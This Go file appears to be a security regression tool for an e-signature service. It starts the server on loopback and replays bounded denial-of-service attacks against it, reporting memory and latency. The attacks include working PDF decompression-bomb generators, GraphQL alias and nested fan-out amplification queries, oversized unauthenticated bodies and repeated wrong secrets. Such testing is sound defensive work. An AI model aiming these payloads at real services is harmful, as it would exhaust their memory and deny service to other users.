// Command attack replays the hostile requests of issue 9 against an esign binary and reports, for
// each attack, the server's peak resident memory and another application's latency (p50/p99 of
// `{viewer{id}}`) idle and under attack. Every target is the server it starts itself on loopback;
// each attack is bounded in request count and in time, and the server is stopped afterwards.
//
//	go build -o /tmp/esign . && go run ./tools/attack -bin /tmp/esign
//
// Run it against two builds (before and after a change) to compare; the output is a Markdown table.
package main

import (
	"bufio"
	"bytes"
	"compress/zlib"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

func main() {
	bin := flag.String("bin", "", "esign binary to attack")
	only := flag.String("only", "", "comma-separated attack names (default: all)")
	flag.Parse()
	if *bin == "" {
		fmt.Fprintln(os.Stderr, "usage: attack -bin PATH [-only name,name]")
		os.Exit(2)
	}
	if err := run(*bin, *only); err != nil {
		fmt.Fprintln(os.Stderr, "attack:", err)
		os.Exit(1)
	}
}

// attack is one hostile workload: setup runs before measuring (creating orders, say), then fire is
// called by workers until maxRequests were sent or maxTime passed.
type attack struct {
	name        string
	workers     int
	maxRequests int
	maxTime     time.Duration
	setup       func(s *server) (any, error)
	fire        func(s *server, state any) result
}

type result struct {
	status int
	bytes  int64
	note   string // the first error message, shortened
	head   []byte // the start of the answer
}

func run(bin, only string) error {
	attacks := []attack{
		{name: "pdf object-stream bomb → validateDocument", workers: 1, maxRequests: 20, maxTime: 10 * time.Second,
			setup: func(*server) (any, error) { return objectStreamBomb(3, 300<<20), nil },
			fire:  validateDocument},
		{name: "pdf /Metadata bomb → validateDocument", workers: 1, maxRequests: 20, maxTime: 10 * time.Second,
			setup: func(*server) (any, error) { return metadataBomb(400 << 20), nil },
			fire:  validateDocument},
		{name: "150 blob aliases on a 5 MiB document", workers: 2, maxRequests: 40, maxTime: 10 * time.Second,
			setup: func(s *server) (any, error) { return s.createOrder(plainPDF(5<<20), 0, "") },
			fire:  blobAliases},
		{name: "signatories↔signatureOrder fan-out, 200 signatories", workers: 2, maxRequests: 200, maxTime: 10 * time.Second,
			setup: func(s *server) (any, error) { return s.createOrder(plainPDF(1000), 200, "") },
			fire:  fanOut},
		{name: "50 MB variables, no credentials", workers: 2, maxRequests: 40, maxTime: 10 * time.Second,
			setup: func(*server) (any, error) { return hugeVariables(50 << 20), nil },
			fire:  unauthenticatedBody},
		{name: "timezones × 1999 aliases, no credentials", workers: 4, maxRequests: 2000, maxTime: 10 * time.Second,
			setup: func(*server) (any, error) { return aliases("timezones", 1999), nil },
			fire:  unauthenticatedQuery},
		{name: "500 wrong secrets", workers: 8, maxRequests: 500, maxTime: 15 * time.Second,
			setup: func(*server) (any, error) { return nil, nil },
			fire:  wrongSecret},
		{name: "createSignatureOrder with a 10 MiB title", workers: 2, maxRequests: 60, maxTime: 10 * time.Second,
			setup: func(*server) (any, error) { return plainPDF(1000), nil },
			fire:  hugeTitle},
	}
	var selected []attack
	for _, a := range attacks {
		if only == "" || slices.ContainsFunc(strings.Split(only, ","), func(n string) bool { return strings.Contains(a.name, n) }) {
			selected = append(selected, a)
		}
	}
	fmt.Println("| attack | requests | answers | peak RSS | other app p50 / p99 idle | under attack |")
	fmt.Println("|---|---|---|---|---|---|")
	for _, a := range selected {
		row, err := measure(bin, a)
		if err != nil {
			return fmt.Errorf("%s: %w", a.name, err)
		}
		fmt.Println(row)
	}
	return nil
}

func measure(bin string, a attack) (string, error) {
	s, err := startServer(bin)
	if err != nil {
		return "", err
	}
	defer s.stop()
	state, err := a.setup(s)
	if err != nil {
		return "", fmt.Errorf("setup: %w", err)
	}
	idle := s.victim(200, nil)
	s.resetPeak()
	ctx, cancel := context.WithTimeout(context.Background(), a.maxTime)
	defer cancel()
	var sent atomic.Int64
	var mu sync.Mutex
	outcomes := map[string]int{}
	var wg sync.WaitGroup
	for range a.workers {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for ctx.Err() == nil && sent.Add(1) <= int64(a.maxRequests) {
				r := a.fire(s, state)
				key := strconv.Itoa(r.status)
				if r.note != "" {
					key += " " + r.note
				}
				mu.Lock()
				outcomes[key]++
				mu.Unlock()
			}
		}()
	}
	attacked := make(chan []time.Duration)
	done := make(chan struct{})
	go func() { attacked <- s.victim(100_000, done) }()
	wg.Wait()
	close(done)
	under := <-attacked
	peak := s.peakRSS()
	n := min(sent.Load(), int64(a.maxRequests))
	var answers []string
	for k, v := range outcomes {
		answers = append(answers, fmt.Sprintf("%d× %s", v, k))
	}
	sort.Strings(answers)
	return fmt.Sprintf("| %s | %d | %s | %d MB | %s / %s | %s / %s |", a.name, n, strings.Join(answers, "; "),
		peak>>20, ms(pct(idle, 50)), ms(pct(idle, 99)), ms(pct(under, 50)), ms(pct(under, 99))), nil
}

func pct(d []time.Duration, p int) time.Duration {
	if len(d) == 0 {
		return 0
	}
	s := slices.Clone(d)
	slices.Sort(s)
	return s[min(len(s)-1, len(s)*p/100)]
}

func ms(d time.Duration) string { return fmt.Sprintf("%.1f ms", float64(d.Microseconds())/1000) }

// server is one esign process with a fresh data folder, an attacker application A (READ_WRITE)
// and a victim application B.
type server struct {
	cmd      *exec.Cmd
	url      string
	env      []string
	attacker creds
	victimID creds
	client   *http.Client
}

type creds struct {
	ClientID     string `json:"clientId"`
	ClientSecret string `json:"clientSecret"`
}

func startServer(bin string) (*server, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	addr := ln.Addr().String()
	ln.Close()
	dir, err := os.MkdirTemp("", "esign-attack-")
	if err != nil {
		return nil, err
	}
	s := &server{url: "http://" + addr, client: &http.Client{Timeout: 60 * time.Second},
		env: append(os.Environ(), "ADDR="+addr, "PUBLIC_URL=http://"+addr, "DATA_DIR="+filepath.Join(dir, "data"),
			"LOG_LEVEL=error", "SWEEP_SCHEDULE=off")}
	for _, app := range []struct {
		name string
		into *creds
	}{{"attacker", &s.attacker}, {"victim", &s.victimID}} {
		c := exec.Command(bin, "apikey", "create", "--application", app.name)
		c.Env = s.env
		out, err := c.Output()
		if err != nil {
			return nil, fmt.Errorf("apikey create: %w", err)
		}
		if err := json.Unmarshal(out, app.into); err != nil {
			return nil, fmt.Errorf("apikey create printed %q", out)
		}
	}
	s.cmd = exec.Command(bin, "serve")
	s.cmd.Env = s.env
	s.cmd.Stderr = io.Discard
	if err := s.cmd.Start(); err != nil {
		return nil, err
	}
	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		if resp, err := http.Get(s.url + "/healthz"); err == nil {
			resp.Body.Close()
			return s, nil
		}
	}
	s.stop()
	return nil, errors.New("server did not start")
}

func (s *server) stop() {
	if s.cmd != nil && s.cmd.Process != nil {
		_ = s.cmd.Process.Kill()
		_ = s.cmd.Wait()
	}
	for _, kv := range s.env {
		if dir, ok := strings.CutPrefix(kv, "DATA_DIR="); ok {
			_ = os.RemoveAll(filepath.Dir(dir))
		}
	}
}

// resetPeak clears the process's high-water mark of resident memory (Linux: clear_refs 5).
func (s *server) resetPeak() {
	_ = os.WriteFile(fmt.Sprintf("/proc/%d/clear_refs", s.cmd.Process.Pid), []byte("5"), 0)
}

func (s *server) peakRSS() int64 {
	f, err := os.Open(fmt.Sprintf("/proc/%d/status", s.cmd.Process.Pid))
	if err != nil {
		return 0
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		if v, ok := strings.CutPrefix(sc.Text(), "VmHWM:"); ok {
			kb, _ := strconv.ParseInt(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(v), "kB")), 10, 64)
			return kb << 10
		}
	}
	return 0
}

// victim runs `{viewer{id}}` as application B, n times or until done closes, and returns the latencies.
func (s *server) victim(n int, done <-chan struct{}) []time.Duration {
	var out []time.Duration
	for i := 0; i < n; i++ {
		select {
		case <-done:
			return out
		default:
		}
		start := time.Now()
		r := s.post(&s.victimID, []byte(`{"query":"{viewer{id}}"}`))
		if r.status != http.StatusOK {
			continue
		}
		out = append(out, time.Since(start))
	}
	return out
}

func (s *server) post(c *creds, body []byte) result {
	req, _ := http.NewRequest(http.MethodPost, s.url+"/v1/graphql", bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	if c != nil {
		req.SetBasicAuth(c.ClientID, c.ClientSecret)
	}
	resp, err := s.client.Do(req)
	if err != nil {
		return result{note: "transport: " + shorten(err.Error())}
	}
	defer resp.Body.Close()
	// Read the start of the answer for its first error; count the rest.
	head := make([]byte, 64<<10)
	k, _ := io.ReadFull(resp.Body, head)
	rest, _ := io.Copy(io.Discard, resp.Body)
	r := result{status: resp.StatusCode, bytes: int64(k) + rest, head: head[:k]}
	if i := bytes.Index(head[:k], []byte(`"errors":[{"message":"`)); i >= 0 {
		msg := head[i+len(`"errors":[{"message":"`) : k]
		if j := bytes.IndexByte(msg, '"'); j >= 0 {
			msg = msg[:j]
		}
		r.note = shorten(string(msg))
	} else if r.bytes > 1<<20 {
		r.note = fmt.Sprintf("answered %d MB", r.bytes>>20)
	}
	return r
}

func shorten(s string) string {
	if len(s) > 70 {
		return s[:70] + "…"
	}
	return s
}

func gqlBody(query string, vars map[string]any) []byte {
	b, _ := json.Marshal(map[string]any{"query": query, "variables": vars})
	return b
}

func (s *server) createOrder(pdf []byte, signatories int, title string) (string, error) {
	sigs := make([]map[string]any, signatories)
	for i := range sigs {
		sigs[i] = map[string]any{"reference": strconv.Itoa(i)}
	}
	in := map[string]any{"documents": []any{map[string]any{"pdf": map[string]any{"title": "Doc", "storageMode": "Temporary",
		"blob": base64.StdEncoding.EncodeToString(pdf)}}}, "signatories": sigs}
	if signatories > 0 {
		in["maxSignatories"] = signatories
	}
	if title != "" {
		in["title"] = title
	}
	body := gqlBody(`mutation($i: CreateSignatureOrderInput!){createSignatureOrder(input:$i){signatureOrder{id}}}`,
		map[string]any{"i": in})
	req, _ := http.NewRequest(http.MethodPost, s.url+"/v1/graphql", bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	req.SetBasicAuth(s.attacker.ClientID, s.attacker.ClientSecret)
	resp, err := s.client.Do(req)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	var out struct {
		Data struct {
			CreateSignatureOrder struct{ SignatureOrder struct{ ID string } }
		}
		Errors []struct{ Message string }
	}
	if err := json.NewDecoder(resp.Body).Decode(&out); err != nil {
		return "", err
	}
	if len(out.Errors) > 0 {
		return "", errors.New(out.Errors[0].Message)
	}
	return out.Data.CreateSignatureOrder.SignatureOrder.ID, nil
}

func validateDocument(s *server, state any) result {
	r := s.post(&s.attacker, gqlBody(`mutation($i: ValidateDocumentInput!){validateDocument(input:$i){valid errors}}`,
		map[string]any{"i": map[string]any{"pdf": base64.StdEncoding.EncodeToString(state.([]byte))}}))
	for _, v := range []string{`"valid":true`, `"valid":false`} {
		if r.note == "" && bytes.Contains(r.head, []byte(v)) {
			r.note = strings.ReplaceAll(v, `"`, "")
		}
	}
	return r
}

func blobAliases(s *server, state any) result {
	var q strings.Builder
	q.WriteString("query($id: ID!){")
	for i := range 150 {
		fmt.Fprintf(&q, "a%d: signatureOrder(id:$id){documents{... on PdfDocument{blob}}} ", i)
	}
	q.WriteString("}")
	return s.post(&s.attacker, gqlBody(q.String(), map[string]any{"id": state.(string)}))
}

func fanOut(s *server, state any) result {
	return s.post(&s.attacker, gqlBody(`query($id: ID!){signatureOrder(id:$id){signatories{signatureOrder{signatories{signatureOrder{signatories{id}}}}}}}`,
		map[string]any{"id": state.(string)}))
}

func unauthenticatedBody(s *server, state any) result { return s.post(nil, state.([]byte)) }

func unauthenticatedQuery(s *server, state any) result {
	return s.post(nil, gqlBody(state.(string), nil))
}

func wrongSecret(s *server, _ any) result {
	return s.post(&creds{ClientID: s.attacker.ClientID, ClientSecret: "wrong"}, []byte(`{"query":"{viewer{id}}"}`))
}

func hugeTitle(s *server, state any) result {
	in := map[string]any{"title": strings.Repeat("T", 10<<20), "documents": []any{map[string]any{"pdf": map[string]any{
		"title": "Doc", "storageMode": "Temporary", "blob": base64.StdEncoding.EncodeToString(state.([]byte))}}}}
	return s.post(&s.attacker, gqlBody(`mutation($i: CreateSignatureOrderInput!){createSignatureOrder(input:$i){signatureOrder{id}}}`,
		map[string]any{"i": in}))
}

func aliases(field string, n int) string {
	var q strings.Builder
	q.WriteString("{")
	for i := range n {
		fmt.Fprintf(&q, "a%d: %s ", i, field)
	}
	q.WriteString("}")
	return q.String()
}

func hugeVariables(size int) []byte {
	var b bytes.Buffer
	b.WriteString(`{"query":"{__typename}","variables":{"x":[0`)
	for b.Len() < size {
		b.WriteString(",0")
	}
	b.WriteString("]}}")
	return b.Bytes()
}

// pdfWriter writes a classic PDF: objects, then an xref table.
type pdfWriter struct {
	buf     bytes.Buffer
	offsets map[int]int
}

func newPDF() *pdfWriter {
	w := &pdfWriter{offsets: map[int]int{}}
	w.buf.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	return w
}

func (w *pdfWriter) object(nr int, body string) {
	w.offsets[nr] = w.buf.Len()
	fmt.Fprintf(&w.buf, "%d 0 obj\n%s\nendobj\n", nr, body)
}

func (w *pdfWriter) stream(nr int, dict string, data []byte) {
	w.offsets[nr] = w.buf.Len()
	fmt.Fprintf(&w.buf, "%d 0 obj\n<<%s /Length %d>>\nstream\n", nr, dict, len(data))
	w.buf.Write(data)
	w.buf.WriteString("\nendstream\nendobj\n")
}

func (w *pdfWriter) finish(size int) []byte {
	xref := w.buf.Len()
	fmt.Fprintf(&w.buf, "xref\n0 %d\n0000000000 65535 f \n", size)
	for nr := 1; nr < size; nr++ {
		fmt.Fprintf(&w.buf, "%010d 00000 n \n", w.offsets[nr])
	}
	fmt.Fprintf(&w.buf, "trailer\n<</Size %d /Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n", size, xref)
	return w.buf.Bytes()
}

func (w *pdfWriter) pages() {
	w.object(2, "<</Type /Pages /Kids [3 0 R] /Count 1>>")
	w.object(3, "<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R>>")
	w.stream(4, "", []byte("BT /F1 12 Tf 72 720 Td (Hello) Tj ET"))
}

// plainPDF is a one-page PDF padded to about size bytes with an unfiltered stream.
func plainPDF(size int) []byte {
	w := newPDF()
	w.object(1, "<</Type /Catalog /Pages 2 0 R>>")
	w.pages()
	w.stream(5, "", bytes.Repeat([]byte("0123456789abcdef"), max(1, size/16)))
	return w.finish(6)
}

// zeros returns n zero bytes deflated (zlib, as /FlateDecode wants), written in chunks.
func zeros(prefix []byte, n int) []byte {
	var out bytes.Buffer
	zw, _ := zlib.NewWriterLevel(&out, zlib.BestCompression)
	_, _ = zw.Write(prefix)
	chunk := make([]byte, 1<<20)
	for ; n > 0; n -= len(chunk) {
		_, _ = zw.Write(chunk[:min(n, len(chunk))])
	}
	_ = zw.Close()
	return out.Bytes()
}

// objectStreamBomb holds count object streams, each inflating to size bytes, referenced from a
// cross-reference stream so that a reader must decode them.
func objectStreamBomb(count, inflated int) []byte {
	w := newPDF()
	w.object(1, "<</Type /Catalog /Pages 2 0 R>>")
	w.pages()
	// Objects 5..4+count are object streams holding one object each (numbers 5+count...).
	for i := range count {
		inner := fmt.Sprintf("%d 0 ", 5+count+i)
		body := zeros([]byte(inner+"null "), inflated)
		w.stream(5+i, fmt.Sprintf("/Type /ObjStm /N 1 /First %d /Filter /FlateDecode", len(inner)), body)
	}
	xrefNr := 5 + 2*count
	size := xrefNr + 1
	xrefOffset := w.buf.Len()
	var rows bytes.Buffer
	row := func(typ byte, f2 int, f3 byte) {
		rows.WriteByte(typ)
		rows.Write([]byte{byte(f2 >> 24), byte(f2 >> 16), byte(f2 >> 8), byte(f2)})
		rows.WriteByte(f3)
	}
	row(0, 0, 255)
	for nr := 1; nr < size; nr++ {
		switch {
		case nr >= 5+count && nr < xrefNr:
			row(2, 5+(nr-5-count), 0)
		case nr == xrefNr:
			row(1, xrefOffset, 0)
		default:
			row(1, w.offsets[nr], 0)
		}
	}
	fmt.Fprintf(&w.buf, "%d 0 obj\n<</Type /XRef /Size %d /W [1 4 1] /Root 1 0 R /Length %d>>\nstream\n", xrefNr, size, rows.Len())
	w.buf.Write(rows.Bytes())
	fmt.Fprintf(&w.buf, "\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n", xrefOffset)
	return w.buf.Bytes()
}

// metadataBomb is a one-page PDF whose catalog /Metadata stream inflates to size bytes.
func metadataBomb(size int) []byte {
	w := newPDF()
	w.object(1, "<</Type /Catalog /Pages 2 0 R /Metadata 5 0 R>>")
	w.pages()
	w.stream(5, "/Type /Metadata /Subtype /XML /Filter /FlateDecode", zeros(nil, size))
	return w.finish(6)
}
